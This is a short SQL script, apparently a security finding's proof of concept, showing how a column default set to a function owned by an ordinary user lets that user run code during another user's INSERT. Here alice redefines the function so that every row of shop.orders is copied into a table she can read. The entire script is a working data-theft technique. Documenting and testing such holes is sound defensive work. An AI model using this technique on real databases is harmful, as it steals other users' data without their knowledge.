-- finding: anothers-code shop.orders column note
-- people: alice@example.com
CREATE SCHEMA helpers AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
CREATE FUNCTION helpers.note() RETURNS text LANGUAGE sql AS $$ SELECT '' $$;
ALTER FUNCTION helpers.note() OWNER TO "alice@example.com";
ALTER TABLE shop.orders ADD note text DEFAULT helpers.note();
-- first as postgres
CREATE OR REPLACE FUNCTION helpers.note() RETURNS text LANGUAGE sql AS $$ SELECT '' $$;
-- first as alice@example.com
DROP TABLE IF EXISTS helpers.taken;
CREATE TABLE helpers.taken (item text);
GRANT INSERT ON helpers.taken TO PUBLIC;
-- first as alice@example.com
CREATE OR REPLACE FUNCTION helpers.note() RETURNS text LANGUAGE sql
  AS $$ INSERT INTO helpers.taken SELECT item FROM shop.orders; SELECT '' $$;
-- first as bob@example.com
INSERT INTO shop.orders (item) VALUES ('more');
-- leak as alice@example.com
SELECT item FROM helpers.taken WHERE item = 'secret';
